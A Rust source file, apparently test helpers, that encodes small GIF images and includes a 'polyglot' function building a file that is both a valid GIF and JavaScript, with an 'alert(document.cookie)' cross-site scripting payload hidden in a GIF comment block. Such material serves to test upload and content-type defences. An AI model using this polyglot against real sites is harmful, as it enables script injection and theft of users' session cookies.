use image::{Delay, DynamicImage, Frame, RgbImage, Rgba, RgbaImage, codecs::gif::GifEncoder};

/// `/*`, read as a width.
const COMMENT_BEGINS: u32 = 0x2a2f;
/// Signature and size, behind which stand the colours for all frames.
const HEADER_BYTES: usize = 13;

/// So many small frames.
pub fn gif_of(frames: u32) -> Vec<u8> {
    let frame = |n: u32| RgbaImage::from_pixel(3, 2, Rgba([n as u8, 7, 9, 255]));
    encode((0..frames).map(frame))
}

fn encode(frames: impl Iterator<Item = RgbaImage>) -> Vec<u8> {
    let mut file = Vec::new();
    let mut encoder = GifEncoder::new(&mut file);
    for frame in frames {
        let frame = Frame::from_parts(frame, 0, 0, Delay::from_numer_denom_ms(10, 1));
        encoder.encode_frame(frame).expect("fits");
    }
    drop(encoder);
    file
}

/// A picture that is a script as well: to JavaScript, `GIF89a` is a variable
/// and all that is picture stands in comments. `picture` makes it, of a width
/// that is a comment's beginning.
pub fn polyglot(picture: impl FnOnce(u32) -> RgbImage) -> Vec<u8> {
    let file = encode(std::iter::once(
        DynamicImage::from(picture(COMMENT_BEGINS)).into_rgba8(),
    ));
    let flags = file[HEADER_BYTES - 3];
    let colours_bytes = if flags & 0x80 == 0 {
        0
    } else {
        3 << ((flags & 7) + 1)
    };
    let script = b"*/=1;alert(document.cookie);/*";
    let (header, frames) = file.split_at(HEADER_BYTES + colours_bytes);
    [
        header,
        &[0x21, 0xfe, script.len() as u8],
        script,
        &[0],
        frames,
        b"*/",
    ]
    .concat()
}
